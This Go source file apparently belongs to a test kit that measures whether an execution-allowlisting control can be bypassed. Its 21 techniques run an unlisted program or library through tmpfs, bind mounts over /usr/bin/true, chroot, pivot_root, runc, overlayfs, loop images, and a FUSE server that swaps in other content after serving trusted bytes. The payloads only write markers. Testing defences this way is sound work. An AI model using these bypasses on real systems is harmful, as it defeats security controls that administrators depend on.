package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// mounts are techniques that put a file system between name and content: groups 4 to 8.
func mounts() []technique {
	return []technique{
		{ID: "mount-tmpfs", Group: 4, As: asRoot, Mounts: true, Title: "new tmpfs", Stop: byExec, Run: execOnMount("tmpfs", 0)},
		{ID: "mount-ramfs", Group: 4, As: asRoot, Mounts: true, Title: "new ramfs", Stop: byExec, Run: execOnMount("ramfs", 0)},
		{ID: "userns-tmpfs", Group: 4, As: asBoth, Userns: true, Title: "tmpfs in a user namespace", Stop: byExec, Run: execOnMount("tmpfs", 0)},
		{ID: "userns-ramfs", Group: 4, As: asBoth, Userns: true, Title: "ramfs in a user namespace", Stop: byExec, Run: execOnMount("ramfs", 0)},
		{ID: "mount-remount", Group: 4, As: asBoth, Mounts: true, Title: "noexec mount made executable again", Stop: byExec, Run: execOnMount("tmpfs", unix.MS_NOEXEC)},
		{ID: "bind-program", Group: 5, As: asBoth, Mounts: true, Title: "unlisted program bound over a trusted one", Stop: byExec, Run: bindProgram},
		{ID: "bind-library", Group: 5, As: asBoth, Mounts: true, Title: "unlisted library bound over a trusted one", Stop: byMap, Run: bindLibrary},
		{ID: "bind-new-api", Group: 5, As: asBoth, Mounts: true, Title: "the same by open_tree and move_mount", Stop: byExec, Run: bindNewAPI},
		{ID: "tmpfs-usr-bin", Group: 5, As: asBoth, Mounts: true, Title: "tmpfs over /usr/bin", Stop: byExec, Run: tmpfsOverBin},
		{ID: "chroot", Group: 5, As: asBoth, Mounts: true, Title: "changed root", Stop: byExec, Run: changedRoot},
		{ID: "pivot-root", Group: 5, As: asBoth, Mounts: true, Title: "pivoted root", Stop: byExec, Run: pivotedRoot},
		{ID: "container", Group: 5, As: asRoot, Mounts: true, Title: "container with an unlisted program", Stop: byExec, Run: container},
		{ID: "overlay-upper", Group: 6, As: asBoth, Mounts: true, Title: "trusted program changed in an overlay", Stop: byExec, Run: overlayUpper},
		{ID: "overlay-usr-bin", Group: 6, As: asBoth, Mounts: true, Title: "overlay mounted on /usr/bin", Stop: byExec, Run: overlayBin},
		{ID: "overlay-lower", Group: 6, As: asBoth, Mounts: true, Title: "unlisted program in an overlay's lower layer", Stop: byExec, Run: overlayLower},
		{ID: "overlay-swap", Group: 6, As: asBoth, Mounts: true, Title: "layer changed below an overlay after the program ran once", Stop: byVersion, Run: overlaySwap},
		{ID: "loop-squashfs", Group: 7, As: asRoot, Mounts: true, Title: "program on a squashfs image", Stop: byExec, Run: loopSquashfs},
		{ID: "loop-ext4", Group: 7, As: asRoot, Mounts: true, Title: "program on an ext4 image", Stop: byExec, Run: loopExt4},
		{ID: "fuse-plain", Group: 8, As: asBoth, Mounts: true, Title: "program on FUSE", Stop: byStable, Run: fuseRun(false)},
		{ID: "fuse-changing", Group: 8, As: asBoth, Mounts: true, Title: "FUSE that gives trusted content first", Stop: byStable, Run: fuseRun(true)},
		{ID: "fuse-library", Group: 8, As: asBoth, Mounts: true, Title: "library on FUSE that gives trusted content first", Stop: byStable, Run: fuseLibrary},
	}
}

func mount(source, target, kind string, flags uintptr, options string) error {
	if err := os.MkdirAll(target, 0o755); err != nil {
		return err
	}
	if err := unix.Mount(source, target, kind, flags, options); err != nil {
		return fmt.Errorf("mount %s on %s: %w", kind, target, err)
	}
	return nil
}

func bind(from, to string) error {
	if err := unix.Mount(from, to, "", unix.MS_BIND, ""); err != nil {
		return fmt.Errorf("bind %s on %s: %w", from, to, err)
	}
	return nil
}

func execOnMount(kind string, flags uintptr) func(*attempt) error {
	return func(a *attempt) error {
		if err := mount("none", a.path("m"), kind, flags, ""); err != nil {
			return err
		}
		if flags != 0 {
			if err := unix.Mount("none", a.path("m"), "", unix.MS_REMOUNT|unix.MS_BIND, ""); err != nil {
				return fmt.Errorf("remount: %w", err)
			}
		}
		p, err := a.program("m/p")
		if err != nil {
			return err
		}
		return a.run(p)
	}
}

func bindProgram(a *attempt) error {
	p, err := a.program("p")
	if err != nil {
		return err
	}
	if err := bind(p, "/usr/bin/true"); err != nil {
		return err
	}
	return a.run("/usr/bin/true")
}

// bindLibrary replaces the library of a trusted program. The kit is read-only, so only a mount can.
func bindLibrary(a *attempt) error {
	lib, err := a.library("lib.so")
	if err != nil {
		return err
	}
	if err := bind(lib, a.inKit("librwdemo.so")); err != nil {
		return err
	}
	return a.run(a.inKit("victim"))
}

func bindNewAPI(a *attempt) error {
	p, err := a.program("p")
	if err != nil {
		return err
	}
	fd, err := unix.OpenTree(unix.AT_FDCWD, p, unix.OPEN_TREE_CLONE)
	if err != nil {
		return fmt.Errorf("open_tree: %w", err)
	}
	if err := unix.MoveMount(fd, "", unix.AT_FDCWD, "/usr/bin/true", unix.MOVE_MOUNT_F_EMPTY_PATH); err != nil {
		return fmt.Errorf("move_mount: %w", err)
	}
	return a.run("/usr/bin/true")
}

func tmpfsOverBin(a *attempt) error {
	if err := unix.Mount("none", "/usr/bin", "tmpfs", 0, "mode=755"); err != nil {
		return fmt.Errorf("mount tmpfs on /usr/bin: %w", err)
	}
	if err := a.payload("payload", "/usr/bin/true"); err != nil {
		return err
	}
	return a.run("/usr/bin/true")
}

// inRoot prepares a root directory whose only program is a payload.
func (a *attempt) inRoot() (string, error) {
	root := a.path("root")
	if err := os.MkdirAll(root+"/bin", 0o755); err != nil {
		return "", err
	}
	return root, a.payloadFor("payload", root+"/bin/true", "/marker")
}

// adopt takes a marker over that the payload wrote under another name.
func (a *attempt) adopt(path string) error {
	if !markerHolds(path, a.Token) {
		return errors.New("the payload did not run")
	}
	return a.observed()
}

func changedRoot(a *attempt) error {
	root, err := a.inRoot()
	if err != nil {
		return err
	}
	cmd := exec.Command("/bin/true")
	cmd.SysProcAttr = &syscall.SysProcAttr{Chroot: root}
	if err := cmd.Run(); err != nil {
		return err
	}
	return a.adopt(root + "/marker")
}

func pivotedRoot(a *attempt) error {
	root := a.path("root")
	if err := mount("none", root, "tmpfs", 0, ""); err != nil {
		return err
	}
	if _, err := a.inRoot(); err != nil {
		return err
	}
	if err := os.Mkdir(root+"/old", 0o755); err != nil {
		return err
	}
	if err := unix.PivotRoot(root, root+"/old"); err != nil {
		return fmt.Errorf("pivot_root: %w", err)
	}
	if err := os.Chdir("/"); err != nil {
		return err
	}
	// os/exec would look for /dev/null, which is not in this root
	p, err := os.StartProcess("/bin/true", []string{"true"}, &os.ProcAttr{})
	if err != nil {
		return err
	}
	if _, err := p.Wait(); err != nil {
		return err
	}
	if !markerHolds("/marker", a.Token) {
		return errors.New("the payload did not run")
	}
	return os.WriteFile("/old"+a.Marker, []byte(a.Token), 0o600)
}

// container runs the payload with runc, in the host's network and cgroup namespaces: those are not the point.
func container(a *attempt) error {
	root, err := a.inRoot()
	if err != nil {
		return err
	}
	config := fmt.Sprintf(`{"ociVersion":"1.0.2","process":{"user":{"uid":0,"gid":0},"args":["/bin/true"],"cwd":"/"},
"root":{"path":%q},"mounts":[{"destination":"/proc","type":"proc","source":"proc"}],
"linux":{"namespaces":[{"type":"pid"},{"type":"mount"},{"type":"uts"},{"type":"ipc"}]}}`, root)
	if _, err := a.write("config.json", config); err != nil {
		return err
	}
	err = a.run("runc", "--root", a.path("run"), "run", "-b", a.Dir, "attack-"+a.Token)
	if err != nil {
		return err
	}
	return a.adopt(root + "/marker")
}

// overlay mounts lower and a fresh upper layer on a directory.
func (a *attempt) overlay(lower, on string) error {
	// upper and work lie on a tmpfs: it can take them in a user namespace, too
	if err := mount("none", a.path("layers"), "tmpfs", 0, ""); err != nil {
		return err
	}
	for _, d := range []string{"layers/upper", "layers/work", "merged"} {
		if err := os.MkdirAll(a.path(d), 0o755); err != nil {
			return err
		}
	}
	options := fmt.Sprintf("lowerdir=%s,upperdir=%s,workdir=%s,userxattr", lower, a.path("layers/upper"), a.path("layers/work"))
	if err := unix.Mount("overlay", on, "overlay", 0, options); err != nil {
		return unavailable("mount overlay: %v", err)
	}
	return nil
}

func overlayUpper(a *attempt) error {
	if err := a.overlay("/usr/bin", a.path("merged")); err != nil {
		return err
	}
	// a write to a file of the user's own, in the user namespace, needs no copy of ownership
	if err := os.Remove(a.path("merged/true")); err != nil {
		return err
	}
	p, err := a.program("merged/true")
	if err != nil {
		return err
	}
	return a.run(p)
}

func overlayBin(a *attempt) error {
	if err := a.overlay("/usr/bin", "/usr/bin"); err != nil {
		return err
	}
	if err := os.Remove("/usr/bin/true"); err != nil {
		return err
	}
	if err := a.payload("payload", "/usr/bin/true"); err != nil {
		return err
	}
	return a.run("/usr/bin/true")
}

func overlayLower(a *attempt) error {
	if err := os.Mkdir(a.path("lower"), 0o755); err != nil {
		return err
	}
	if _, err := a.program("lower/p"); err != nil {
		return err
	}
	if err := a.overlay(a.path("lower"), a.path("merged")); err != nil {
		return err
	}
	return a.run(a.path("merged/p"))
}

func overlaySwap(a *attempt) error {
	if err := os.Mkdir(a.path("lower"), 0o755); err != nil {
		return err
	}
	if err := copyFile("/bin/true", a.path("lower/p")); err != nil {
		return err
	}
	if err := a.overlay(a.path("lower"), a.path("merged")); err != nil {
		return err
	}
	if err := a.run(a.path("merged/p")); err != nil {
		return err
	}
	if err := a.overwrite(a.path("lower/p")); err != nil {
		return err
	}
	return a.run(a.path("merged/p"))
}

// loop attaches an image to a loop device. The device goes away with its last user.
func loop(image string) (string, error) {
	control, err := os.OpenFile("/dev/loop-control", os.O_RDWR, 0)
	if err != nil {
		return "", unavailable("%v", err)
	}
	defer control.Close()
	n, err := unix.IoctlRetInt(int(control.Fd()), unix.LOOP_CTL_GET_FREE)
	if err != nil {
		return "", fmt.Errorf("LOOP_CTL_GET_FREE: %w", err)
	}
	device := fmt.Sprintf("/dev/loop%d", n)
	for end := time.Now().Add(3 * time.Second); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		if _, err := os.Stat(device); err == nil {
			break
		}
	}
	d, err := os.OpenFile(device, os.O_RDWR, 0)
	if err != nil {
		return "", err
	}
	defer d.Close()
	back, err := os.OpenFile(image, os.O_RDWR, 0)
	if err != nil {
		return "", err
	}
	defer back.Close()
	if err := unix.IoctlSetInt(int(d.Fd()), unix.LOOP_SET_FD, int(back.Fd())); err != nil {
		return "", fmt.Errorf("LOOP_SET_FD: %w", err)
	}
	return device, nil
}

func clearLoop(device string) {
	if d, err := os.Open(device); err == nil {
		_ = unix.IoctlSetInt(int(d.Fd()), unix.LOOP_CLR_FD, 0)
		d.Close()
	}
}

// mountImage attaches an image and mounts it on m.
func (a *attempt) mountImage(image, kind string, flags uintptr) (device string, undo func(), err error) {
	device, err = loop(image)
	if err != nil {
		return "", nil, err
	}
	undo = func() {
		_ = unix.Unmount(a.path("m"), unix.MNT_DETACH)
		clearLoop(device)
	}
	if err := mount(device, a.path("m"), kind, flags, ""); err != nil {
		undo()
		if errors.Is(err, unix.ENODEV) {
			return "", nil, unavailable("%v", err)
		}
		return "", nil, err
	}
	return device, undo, nil
}

// patchImage fills the slot of the payload that lies in an image.
func (a *attempt) patchImage(name string) (string, error) {
	to := a.path(name)
	return to, a.payload(name, to)
}

func loopSquashfs(a *attempt) error {
	image, err := a.patchImage("image.squashfs")
	if err != nil {
		return err
	}
	_, undo, err := a.mountImage(image, "squashfs", unix.MS_RDONLY)
	if err != nil {
		return err
	}
	defer undo()
	return a.run(a.path("m/p"))
}

func loopExt4(a *attempt) error {
	image := a.path("image.ext4")
	if err := copyFile(a.inKit("image.ext4"), image); err != nil {
		return err
	}
	_, undo, err := a.mountImage(image, "ext4", 0)
	if err != nil {
		return err
	}
	defer undo()
	p, err := a.program("m/p")
	if err != nil {
		return err
	}
	return a.run(p)
}

// serveFuse starts our FUSE server on m; it ends with the attempt's cgroup.
func (a *attempt) serveFuse(evil string, good ...string) error {
	if err := os.Mkdir(a.path("m"), 0o755); err != nil {
		return err
	}
	cmd := exec.Command(a.inKit("attack"), append([]string{"serve-fuse", a.Token, a.Marker, a.path("m"), evil}, good...)...)
	said := &tail{}
	cmd.Stderr = said
	if err := cmd.Start(); err != nil {
		return err
	}
	for end := time.Now().Add(5 * time.Second); time.Now().Before(end); time.Sleep(30 * time.Millisecond) {
		if _, err := os.Stat(a.path("m/f")); err == nil {
			return nil
		}
	}
	_ = cmd.Process.Kill()
	_ = cmd.Wait()
	return unavailable("FUSE: %s", said)
}

func fuseRun(changing bool) func(*attempt) error {
	return func(a *attempt) error {
		p, err := a.program("p")
		if err != nil {
			return err
		}
		var good []string
		if changing {
			good = []string{"/bin/true"}
		}
		if err := a.serveFuse(p, good...); err != nil {
			return err
		}
		// each start uses up some good pages
		for range 5 {
			if err = a.run(a.path("m/f")); a.ran() {
				return nil
			}
		}
		return err
	}
}

func fuseLibrary(a *attempt) error {
	lib, err := a.library("lib.so")
	if err != nil {
		return err
	}
	if err := a.serveFuse(lib, a.inKit("librwdemo.so")); err != nil {
		return err
	}
	for range 5 {
		if err = a.tool("dlopen", filepath.Join(a.path("m"), "f")); a.ran() {
			return nil
		}
	}
	return err
}
